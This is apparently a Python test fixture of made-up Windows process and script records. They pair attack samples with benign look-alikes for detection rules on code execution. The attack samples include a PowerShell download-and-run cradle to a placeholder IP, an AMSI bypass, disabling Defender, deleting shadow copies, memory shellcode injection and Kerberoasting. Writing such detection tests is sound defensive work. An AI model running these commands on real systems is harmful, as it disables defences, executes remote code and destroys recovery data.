"""Made-up records for the shipped rules about running code: attacks and ordinary work near them."""

from tests.rules.shipped_samples import Sample, other, started
from tests.rules.windows_records import script

SAMPLES = (
    Sample(
        "Shell Started by mshta",
        started("C:\\Windows\\System32\\powershell.exe", "powershell -c whoami", "C:\\Windows\\System32\\mshta.exe"),
        started("C:\\Windows\\System32\\splwow64.exe", "splwow64.exe 12288", "C:\\Windows\\System32\\mshta.exe"),
    ),
    Sample(
        "Regsvr32 Registers a File That Is No Library or in a User's Folder",
        started("C:\\Windows\\System32\\regsvr32.exe", "regsvr32 /s C:\\Users\\Public\\notes.txt"),
        started("C:\\Windows\\System32\\regsvr32.exe", "regsvr32 /s C:\\Windows\\System32\\msxml3.dll"),
    ),
    Sample(
        "Connection Profile Installed Silently by cmstp",
        started("C:\\Windows\\System32\\cmstp.exe", "cmstp.exe /ni /s C:\\Users\\ann\\a.inf"),
        started("C:\\Windows\\System32\\cmstp.exe", "cmstp.exe /u C:\\corp\\vpn.inf"),
    ),
    Sample(
        "Project Built Where Nobody Develops",
        started(
            "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe",
            "MSBuild.exe C:\\Users\\Public\\a.csproj",
        ),
        started(
            "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe",
            "MSBuild.exe D:\\src\\app\\app.csproj /t:Build",
            "C:\\Windows\\System32\\devenv.exe",
        ),
    ),
    Sample(
        "Code Run by InstallUtil, RegAsm or RegSvcs",
        started(
            "C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\InstallUtil.exe",
            "InstallUtil.exe /logfile= /LogToConsole=false /U a.dll",
        ),
        started(
            "C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\InstallUtil.exe",
            "InstallUtil.exe C:\\Services\\billing\\billing.exe",
        ),
    ),
    Sample(
        "Library Registered by odbcconf",
        started("C:\\Windows\\System32\\odbcconf.exe", "odbcconf /a {REGSVR C:\\Users\\Public\\a.dll}"),
        started("C:\\Windows\\System32\\odbcconf.exe", 'odbcconf /a {CONFIGSYSDSN "SQL Server" "DSN=a"}'),
    ),
    Sample(
        "Package Installed Straight from the Network",
        started("C:\\Windows\\System32\\msiexec.exe", "msiexec /q /i http://192.0.2.7/a.msi"),
        started("C:\\Windows\\System32\\msiexec.exe", "msiexec /i C:\\Downloads\\a.msi /qn"),
    ),
    Sample(
        "Command Started Through a Go-Between",
        started("C:\\Windows\\System32\\forfiles.exe", 'forfiles /p C:\\Windows /m notepad.exe /c "cmd /c whoami"'),
        started("C:\\Windows\\System32\\forfiles.exe", "forfiles /p D:\\logs /s /m *.log /d -30"),
    ),
    Sample(
        "Process Made by wmic",
        started("C:\\Windows\\System32\\wbem\\WMIC.exe", "wmic process call create calc.exe"),
        started("C:\\Windows\\System32\\wbem\\WMIC.exe", "wmic process list brief"),
    ),
    Sample(
        "Script Run from a Download or Temporary Folder",
        started("C:\\Windows\\System32\\wscript.exe", "wscript.exe C:\\Users\\ann\\Downloads\\invoice.js"),
        started("C:\\Windows\\System32\\cscript.exe", "cscript.exe //nologo C:\\Windows\\System32\\slmgr.vbs /dli"),
    ),
    Sample(
        "Shell Started by HTML Help",
        started("C:\\Windows\\System32\\cmd.exe", "cmd /c whoami", "C:\\Windows\\hh.exe"),
        started("C:\\Windows\\hh.exe", "hh.exe C:\\Windows\\Help\\mmc.chm"),
    ),
    Sample(
        "Control Panel Item from a User's Folder",
        started("C:\\Windows\\System32\\control.exe", "control.exe C:\\Users\\Public\\a.cpl"),
        started("C:\\Windows\\System32\\control.exe", "control.exe C:\\Windows\\System32\\desk.cpl"),
    ),
    Sample(
        "System Tool Run under Another Name",
        started("C:\\Users\\Public\\update.exe", "update.exe -c whoami", OriginalFileName="PowerShell.EXE"),
        started("C:\\Windows\\System32\\powershell.exe", "powershell.exe -c dir", OriginalFileName="PowerShell.EXE"),
    ),
    Sample(
        "Name of a System Program in a Wrong Folder",
        started("C:\\Users\\ann\\AppData\\Roaming\\svchost.exe", "svchost.exe"),
        started("C:\\Windows\\System32\\svchost.exe", "svchost.exe -k netsvcs", "C:\\Windows\\System32\\services.exe"),
    ),
    Sample(
        "Service Host Started Without a Service Group",
        started("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\svchost.exe", "C:\\Users\\ann\\a.exe"),
        started(
            "C:\\Windows\\System32\\svchost.exe", "svchost.exe -k LocalService", "C:\\Windows\\System32\\services.exe"
        ),
    ),
    Sample(
        "PowerShell That Wants Not to Be Seen",
        started("C:\\Windows\\System32\\powershell.exe", 'powershell -nop -w hidden -c "start-sleep 1"'),
        started("C:\\Windows\\System32\\powershell.exe", "powershell -WindowStyle Normal -File C:\\Scripts\\a.ps1"),
    ),
    Sample(
        "PowerShell Command Written to Be Unreadable",
        started("C:\\Windows\\System32\\powershell.exe", "powershell \"& ('{1}{0}{2}' -f 'x','ie','') 'whoami'\""),
        started("C:\\Windows\\System32\\powershell.exe", "powershell -c \"'{0} of {1}' -f 1,2\""),
    ),
    Sample(
        "PowerShell Loads Code into Memory",
        started(
            "C:\\Windows\\System32\\powershell.exe",
            "powershell [Reflection.Assembly]::Load($b).EntryPoint.Invoke($null,$null)",
        ),
        started(
            "C:\\Windows\\System32\\powershell.exe",
            "powershell [Reflection.Assembly]::LoadWithPartialName('System.Web')",
        ),
    ),
    Sample(
        "PowerShell Asked For in Its Oldest Version",
        started("C:\\Windows\\System32\\powershell.exe", "powershell -version 2 -c whoami"),
        started("C:\\Windows\\System32\\powershell.exe", "powershell -version 5.1 -c whoami"),
    ),
    Sample(
        "Virus Scanner's Script Interface Tampered With",
        script("[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')"),
        script("Get-Process | Sort-Object CPU"),
    ),
    Sample(
        "Script of a Known Attack Kit",
        script("Invoke-Kerberoast -OutputFormat Hashcat"),
        script("Invoke-Command -ComputerName a { Get-Service }"),
    ),
    Sample(
        "Script Fetches and Runs Code",
        script("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')"),
        script("Invoke-WebRequest https://example.org/list.csv -OutFile list.csv"),
    ),
    Sample(
        "Script Puts Machine Code into Memory",
        script("$a=[W]::VirtualAlloc(0,$s.Length,0x3000,0x40); [W]::CreateThread(0,0,$a,0,0,0)"),
        script("$thread = New-Object System.Threading.Thread($code)"),
    ),
    Sample(
        "Script Unpacks and Runs What It Carries",
        script("iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($x)))"),
        script("[Convert]::FromBase64String($x) | Set-Content a.bin"),
    ),
    Sample(
        "Script Records Keys or the Screen",
        script("$api::GetAsyncKeyState($key)"),
        script("Read-Host 'press a key'"),
    ),
    Sample(
        "Script Deletes Shadow Copies",
        script("Get-WmiObject Win32_Shadowcopy | ForEach-Object { $_.Delete() }"),
        script("Get-WmiObject Win32_Shadowcopy | Select-Object ID"),
    ),
    Sample(
        "Script Weakens Microsoft Defender",
        script("Set-MpPreference -DisableRealtimeMonitoring $true"),
        script("Get-MpPreference | Select-Object ExclusionPath"),
    ),
    Sample(
        "PowerShell Engine Started with Hidden or Encoded Orders",
        other(
            "Windows PowerShell",
            "PowerShell",
            400,
            Data="HostApplication=powershell iex (new-object net.webclient).downloadstring('http://a')",
        ),
        other("Windows PowerShell", "PowerShell", 400, Data="HostApplication=powershell -File C:\\Scripts\\a.ps1"),
    ),
    Sample(
        "Command Shell Line Written to Be Unreadable",
        started("C:\\Windows\\System32\\cmd.exe", "cmd /c p^o^w^e^r^s^h^e^l^l -c whoami"),
        started("C:\\Windows\\System32\\cmd.exe", "cmd /c echo a ^& b"),
    ),
    Sample(
        "Web or Database Server Starts a Shell",
        started("C:\\Windows\\System32\\cmd.exe", "cmd.exe /c whoami", "C:\\Windows\\System32\\inetsrv\\w3wp.exe"),
        started(
            "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe",
            "csc.exe /t:library",
            "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
        ),
    ),
    Sample(
        "Print Spooler or Logon Process Starts a Shell",
        started("C:\\Windows\\System32\\cmd.exe", "cmd.exe", "C:\\Windows\\System32\\spoolsv.exe"),
        started("C:\\Windows\\System32\\splwow64.exe", "splwow64.exe", "C:\\Windows\\System32\\spoolsv.exe"),
    ),
    Sample(
        "Program Run from a Folder Where None Belongs",
        started("C:\\Users\\Public\\a.exe", "a.exe"),
        started("C:\\Program Files\\A\\a.exe", "a.exe"),
    ),
    Sample(
        "Program That Poses as a Document",
        started("C:\\Users\\ann\\Downloads\\invoice.pdf.exe", "invoice.pdf.exe"),
        started("C:\\Program Files\\A\\a.pdfreader.exe", "a.pdfreader.exe"),
    ),
    Sample(
        "Something Run from or Hidden in a Second Stream of a File",
        started("C:\\Windows\\System32\\cmd.exe", "cmd /c type C:\\a.exe > C:\\notes.txt:a.exe"),
        started("C:\\Windows\\System32\\cmd.exe", "cmd /c type C:\\notes.txt > D:\\copy.txt"),
    ),
)
